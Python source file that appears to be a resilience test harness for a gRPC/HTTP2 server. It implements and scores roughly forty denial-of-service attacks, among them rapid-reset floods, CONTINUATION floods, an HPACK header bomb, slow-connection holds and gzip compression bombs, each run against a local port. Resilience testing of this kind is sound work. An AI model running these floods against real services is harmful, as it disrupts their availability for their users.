"""The attacks. Each runs for some seconds against a port and reports how the server defended itself.

`python attacks.py NAME PORT SECONDS [SOURCE]` prints one line of JSON: `{"defended": ..., "how": ...,
"told": {TEXT: COUNT}}`. If an attack has a reason in REASONS, the server must give that
reason to count as defended.
"""

import gzip
import itertools
import json
import sys
import time
from collections.abc import Callable, Iterator

from honest import simple_request, varint
from hyperframe.frame import (
    ContinuationFrame, DataFrame, ExtensionFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame)
from peer import CHAT, REQUEST, TOLD, Gone, Peer, headers, message, request_fields, section

ATTACKS: dict[str, Callable[[int, float], tuple[bool, str]]] = {}
# The reason that the server must give, by the attack's name.
REASONS: dict[str, str] = {}
BATCH = 200
# A busy machine may defend itself late; without any defence the attack fails.
LATE_SECONDS_MAX = 30


def attack(reason: str = "") -> Callable:
    def register(function: Callable) -> Callable:
        name = function.__name__.replace("_", "-")
        ATTACKS[name] = function
        REASONS[name] = reason
        return function

    return register


# Floods: one connection after another, each until the server ends it


def flood(
    port: int, seconds: float, frames: Callable[[int], bytes], prepare: bytes = b"",
    settings: dict | None = None, reads: bool = True
) -> tuple[bool, str]:
    until = time.monotonic() + seconds
    ended = calmed = connections = sent = 0
    while time.monotonic() < until:
        try:
            peer = Peer(port, settings)
        except Gone:
            time.sleep(0.01)
            continue
        connections += 1
        try:
            peer.send(prepare)
            for batch in itertools.count():
                if time.monotonic() > until:
                    break
                peer.send(b"".join(frames(batch * BATCH + index) for index in range(BATCH)))
                sent += BATCH
                if reads:
                    peer.read()
        except Gone:
            pass
        # Once one connection was ended, the last one need not be awaited.
        peer.read_until_closed(2 if ended else LATE_SECONDS_MAX)
        ended += peer.is_closed
        calmed += peer.was_calmed
        peer.close()
    how = f"{sent} frames on {connections} connections, {ended} ended, {calmed} with GOAWAY"
    # The last one may not have had enough time.
    return ended >= max(1, connections - 1), how


def stream(index: int) -> int:
    return 2 * index + 1


@attack("resets")
def rapid_reset(port, seconds):
    return flood(
        port, seconds,
        lambda index: headers(stream(index)) + RstStreamFrame(stream(index), 8).serialize())


@attack("resets")
def rapid_reset_of_running_calls(port, seconds):
    body = DataFrame(1, message(simple_request(100)), flags=["END_STREAM"]).serialize()
    return flood(
        port, seconds,
        lambda index: headers(stream(index)) + body[:5] + stream(index).to_bytes(4, "big")
        + body[9:] + RstStreamFrame(stream(index), 8).serialize())


@attack()
def provoked_resets(port, seconds):
    block = section(request_fields(more=(("connection", "close"),)))
    return flood(port, seconds, lambda index: headers(stream(index), block))


@attack("pings")
def pings(port, seconds):
    return flood(port, seconds, lambda _: PingFrame(0, b"attacker").serialize())


@attack()
def pings_unread(port, seconds):
    return flood(port, seconds, lambda _: PingFrame(0, b"attacker").serialize(), reads=False)


@attack("settings")
def settings(port, seconds):
    return flood(
        port, seconds, lambda index: SettingsFrame(0, settings={3: index % 100 + 1}).serialize())


@attack()
def settings_unread(port, seconds):
    return flood(port, seconds, lambda _: SettingsFrame(0).serialize(), reads=False)


@attack("empty_data")
def empty_data(port, seconds):
    return flood(
        port, seconds, lambda _: DataFrame(1, b"").serialize(), prepare=headers(1, CHAT))


@attack()
def padded_data(port, seconds):
    frame = DataFrame(1, b"", pad_length=100, flags=["PADDED"]).serialize()
    return flood(port, seconds, lambda _: frame, prepare=headers(1, CHAT))


@attack("small_window_updates")
def tiny_windows(port, seconds):
    call = DataFrame(1, message(simple_request(4 << 20)), flags=["END_STREAM"]).serialize()
    return flood(
        port, seconds, lambda _: WindowUpdateFrame(1, 1).serialize(), prepare=headers(1) + call,
        settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})


@attack("priorities")
def priorities(port, seconds):
    return flood(
        port, seconds,
        lambda index: PriorityFrame(stream(index), depends_on=0, stream_weight=1).serialize())


@attack()
def unknown_frames(port, seconds):
    return flood(
        port, seconds, lambda _: ExtensionFrame(0xBE, 1, flag_byte=0, body=b"x" * 100).serialize())


@attack()
def continuations(port, seconds):
    begin = bytearray(headers(1))
    begin[4] = 0
    field = section([("x", "y" * 100)])
    return flood(
        port, seconds, lambda _: ContinuationFrame(1, field).serialize(), prepare=bytes(begin))


@attack()
def header_bomb(port, seconds):
    """Header sections that repeat one large entry of HPACK's dynamic table by its index."""
    entry = b"\x40" + b"\x01x" + b"\x7f" + varint(3_000 - 127) + b"y" * 3_000
    first = headers(1, REQUEST + entry, "END_STREAM")
    bomb = REQUEST + b"\xbe" * 12_000
    return flood(
        port, seconds, lambda index: headers(stream(index + 1), bomb, "END_STREAM"), prepare=first)


# Of header sections above the limit of one, a connection may bring so many bytes: the burst, what
# comes back in the seconds of a run, and what was on its way when the server had had enough.
HEADER_BYTES_MAX = 16 << 20
FRAME_MAX = 16_384


@attack("oversized_header_bytes")
def header_work(port, seconds):
    """The largest possible header sections, which only name one large entry: HEADERS and
    eight CONTINUATION frames that unpack to 440 MB."""
    entry = b"\x40" + b"\x01x" + b"\x7f" + varint(3_000 - 127) + b"y" * 3_000
    first = headers(1, REQUEST + entry, "END_STREAM")
    rest = b"".join(
        ContinuationFrame(1, b"\xbe" * FRAME_MAX, flags=["END_HEADERS"] if index == 7 else [])
        .serialize() for index in range(8))
    until = time.monotonic() + seconds
    ended = calmed = connections = most = 0
    while time.monotonic() < until or not ended:
        try:
            peer = Peer(port)
        except Gone:
            time.sleep(0.01)
            continue
        connections += 1
        sent = 0
        try:
            peer.send(first)
            for index in itertools.count(1):
                begin = bytearray(headers(stream(index), REQUEST + b"\xbe" * 12_000, "END_STREAM"))
                begin[4] &= ~0x4
                # The stream of each frame, after its length, type and flags.
                frames = bytearray(rest)
                for at in range(5, len(frames), FRAME_MAX + 9):
                    frames[at : at + 4] = stream(index).to_bytes(4, "big")
                peer.send(bytes(begin + frames))
                sent += len(begin) + len(frames)
                peer.read()
                if sent > 2 * HEADER_BYTES_MAX:
                    break
        except Gone:
            pass
        peer.read_until_closed(2 if ended else LATE_SECONDS_MAX)
        ended += peer.is_closed
        calmed += peer.was_calmed
        most = max(most, sent)
        peer.close()
    how = (
        f"{connections} connections, {ended} ended, {calmed} with GOAWAY, "
        f"at most {most / (1 << 20):.1f} MiB of header sections on one")
    return calmed > 0 and most <= HEADER_BYTES_MAX, how


@attack()
def many_fields(port, seconds):
    block = section(request_fields(more=tuple((f"x-{index}", "y") for index in range(300))))
    return flood(port, seconds, lambda index: headers(stream(index), block, "END_STREAM"))


@attack()
def too_many_streams(port, seconds):
    return flood(port, seconds, lambda index: headers(stream(index), CHAT))


@attack()
def garbage(port, seconds):
    return flood(port, seconds, lambda index: bytes([index * 7 % 256]) * 50)


# Slow connections: the maximum number of connections, each as slow as possible


def hold(
    port: int, seconds: float, begin: Callable[[Peer], None],
    dribble: Callable[[Peer, int], None] | None = None, hello: bool = True, count: int = 150,
    reason: str = ""
) -> Iterator[Peer]:
    """Opens connections, keeps them open with occasional bytes, and replaces closed ones."""
    until = time.monotonic() + seconds
    peers: list[Peer] = []
    is_defended = False
    for turn in itertools.count():
        while len(peers) < count and time.monotonic() < until:
            try:
                peer = Peer(port, hello=hello)
                peers.append(peer)
                begin(peer)
            except Gone:
                break
        for peer in peers:
            try:
                if dribble:
                    dribble(peer, turn)
                peer.read()
            except Gone:
                pass
        if reason:
            is_defended = reason in TOLD
        else:
            is_defended |= any(peer.is_closed or "8" in peer.statuses for peer in peers)
        yield from (peer for peer in peers if peer.is_closed)
        peers = [peer for peer in peers if not peer.is_closed]
        if time.monotonic() >= until + (0 if is_defended else LATE_SECONDS_MAX):
            break
        time.sleep(0.1)
    for peer in peers:
        yield peer
        peer.close()


def held(peers: Iterator[Peer]) -> tuple[bool, str]:
    opened = ended = calmed = exhausted = 0
    for peer in peers:
        opened += 1
        ended += peer.is_closed
        calmed += peer.was_calmed
        exhausted += peer.statuses.get("8", 0)
    how = (
        f"{opened} connections, {ended} ended, {calmed} with GOAWAY, "
        f"{exhausted} RESOURCE_EXHAUSTED")
    return ended > 0 or exhausted > 0, how


@attack()
def slow_headers(port, seconds):
    block = headers(1)
    return held(hold(
        port, seconds, lambda peer: peer.send(block[:20]),
        lambda peer, turn: peer.send(block[20 + turn : 21 + turn])))


@attack()
def slow_preface(port, seconds):
    return held(hold(
        port, seconds, lambda peer: peer.send(b"PRI"),
        lambda peer, turn: peer.send(b" * HTTP/2.0"[turn : turn + 1]), hello=False))


@attack()
def silent_connections(port, seconds):
    return held(hold(port, seconds, lambda peer: None, hello=False))


@attack()
def idle_connections(port, seconds):
    return held(hold(port, seconds, lambda peer: None))


@attack("LIMIT_EXCEEDED body_rate")
def slow_bodies(port, seconds):
    def begin(peer):
        body = message(bytes(1_000))
        for index in range(50):
            peer.send(headers(stream(index)) + DataFrame(stream(index), body[:10]).serialize())

    def dribble(peer, turn):
        peer.send(DataFrame(stream(turn % 50), b"\0").serialize())

    return held(hold(
        port, seconds, begin, dribble, count=10, reason="LIMIT_EXCEEDED body_rate"))


@attack()
def large_unfinished_bodies(port, seconds):
    """Many large messages without their ends."""
    part = bytes(16_384)

    def begin(peer):
        length = (4 << 20).to_bytes(4, "big")
        for index in range(20):
            peer.send(
                headers(stream(index), CHAT)
                + DataFrame(stream(index), b"\0" + length).serialize())
        for _ in range(15):
            for index in range(20):
                peer.send(DataFrame(stream(index), part).serialize())
            peer.read()

    return held(hold(port, seconds, begin, count=60))


# Without credentials


@attack("TOKEN_MISSING")
def bodies_without_token(port, seconds):
    """Slow calls of methods that require credentials: rejected at the headers, nothing is buffered."""
    block = section(request_fields(token=None))
    length = (4 << 20).to_bytes(4, "big")
    sent = 0

    def begin(peer):
        nonlocal sent
        for index in range(50):
            peer.send(
                headers(stream(index), block)
                + DataFrame(stream(index), b"\0" + length + bytes(16_000)).serialize())
            sent += 1

    def dribble(peer, turn):
        peer.send(DataFrame(stream(turn % 50), b"\0").serialize())

    answered = 0
    for peer in hold(port, seconds, begin, dribble, count=10, reason="TOKEN_MISSING"):
        # Those of the last turn may be on their way.
        peer.read_until_closed(1)
        answered += sum(peer.statuses.values())
    others = sum(TOLD.values()) - TOLD["TOKEN_MISSING"]
    how = f"{sent} bodies started, {answered} refused, {others} for other reasons"
    return answered > 0 and others == 0, how


def open_flood(port, seconds, block, body, reason):
    """More calls than one address may have, on several connections."""

    def begin(peer):
        peer.send(b"".join(headers(stream(index), block) + body(stream(index)) for index in range(90)))

    return held(hold(port, seconds, begin, count=10, reason=reason))


@attack("LIMIT_EXCEEDED open_requests_per_peer")
def unfinished_open_calls(port, seconds):
    block = section(request_fields("EmptyCall", token=None))
    return open_flood(port, seconds, block, lambda _: b"", "LIMIT_EXCEEDED open_requests_per_peer")


@attack("LIMIT_EXCEEDED open_bytes_per_peer")
def large_open_calls(port, seconds):
    """Few calls, whose bodies lack only their ends."""
    block = section(request_fields("EmptyCall", token=None))
    length = (4 << 20).to_bytes(4, "big")

    def begin(peer):
        for index in range(20):
            peer.send(headers(stream(index), block))
            peer.send(DataFrame(stream(index), b"\0" + length).serialize())
        for _ in range(10):
            for index in range(20):
                peer.send(DataFrame(stream(index), bytes(16_384)).serialize())
            peer.read()

    reason = "LIMIT_EXCEEDED open_bytes_per_peer"
    return held(hold(port, seconds, begin, count=1, reason=reason))


@attack("TOO_MANY_WATCHERS")
def health_watches(port, seconds):
    block = section(request_fields("Watch", service="grpc.health.v1.Health", token=None))
    return open_flood(
        port, seconds, block,
        lambda number: DataFrame(number, message(b""), flags=["END_STREAM"]).serialize(),
        "TOO_MANY_WATCHERS")


@attack("STREAM_IDLE")
def idle_reflection_streams(port, seconds):
    block = section(request_fields(
        "ServerReflectionInfo", service="grpc.reflection.v1.ServerReflection", token=None))
    return open_flood(port, seconds, block, lambda _: b"", "STREAM_IDLE")


# With them


@attack()
def open_calls(port, seconds):
    def begin(peer):
        peer.send(b"".join(headers(stream(index), CHAT) for index in range(90)))

    return held(hold(port, seconds, begin, count=20))


@attack()
def unread_responses(port, seconds):
    call = message(simple_request(1 << 20))

    def begin(peer):
        peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
        for index in range(80):
            peer.send(
                headers(stream(index))
                + DataFrame(stream(index), call, flags=["END_STREAM"]).serialize())

    return held(hold(port, seconds, begin, count=4))


@attack()
def unread_responses_of_many_connections(port, seconds):
    """Each call stays below its limit; together they exceed the server's many times."""
    call = message(simple_request(1 << 20))

    def begin(peer):
        peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
        for index in range(8):
            peer.send(
                headers(stream(index))
                + DataFrame(stream(index), call, flags=["END_STREAM"]).serialize())

    return held(hold(port, seconds, begin, count=80))


@attack()
def connection_storm(port, seconds):
    """Opens and closes connections as fast as possible."""
    until = time.monotonic() + seconds
    count = refused = 0
    while time.monotonic() < until:
        peers = []
        for _ in range(200):
            try:
                peers.append(Peer(port))
            except Gone:
                pass
        count += len(peers)
        for peer in peers:
            peer.read(0.01)
            refused += peer.is_closed
            peer.close()
    return refused > 0, f"{count} connections, {refused} refused"


# Messages that are much larger when decoded


def calls(port: int, seconds: float, block: bytes, body: bytes) -> tuple[bool, str]:
    until = time.monotonic() + seconds
    sent = exhausted = 0
    while time.monotonic() < until:
        peer = Peer(port)
        try:
            for index in range(200):
                peer.send(
                    headers(stream(index), block)
                    + DataFrame(stream(index), body, flags=["END_STREAM"]).serialize())
                sent += 1
                if index % 20 == 19:
                    while sum(peer.statuses.values()) <= index and not peer.is_closed:
                        peer.read(0.01)
        except Gone:
            pass
        exhausted += peer.statuses.get("8", 0)
        peer.close()
    return exhausted > 0, f"{sent} calls, {exhausted} RESOURCE_EXHAUSTED"


@attack()
def compression_bomb(port, seconds):
    bomb = gzip.compress(bytes(8 << 20))
    block = section(request_fields(more=(("grpc-encoding", "gzip"),)))
    return calls(port, seconds, block, message(bomb, compressed=True))


@attack()
def empty_elements(port, seconds):
    """Elements of two bytes that use a hundred times as much memory."""
    block = section(request_fields("StreamingOutputCall", more=(("grpc-encoding", "gzip"),)))
    body = message(gzip.compress(b"\x12\x00" * 2_000_000), compressed=True)
    return calls(port, seconds, block, body)


@attack()
def announced_size(port, seconds):
    return calls(port, seconds, REQUEST, b"\0\xff\xff\xff\xff")


def main() -> None:
    name, port, seconds, *source = sys.argv[1:]
    Peer.source = source[0] if source else Peer.source
    defended, how = ATTACKS[name](int(port), float(seconds))
    if REASONS[name]:
        defended = defended and TOLD[REASONS[name]] > 0
    print(json.dumps({"defended": defended, "how": how, "told": TOLD}))


if __name__ == "__main__":
    main()
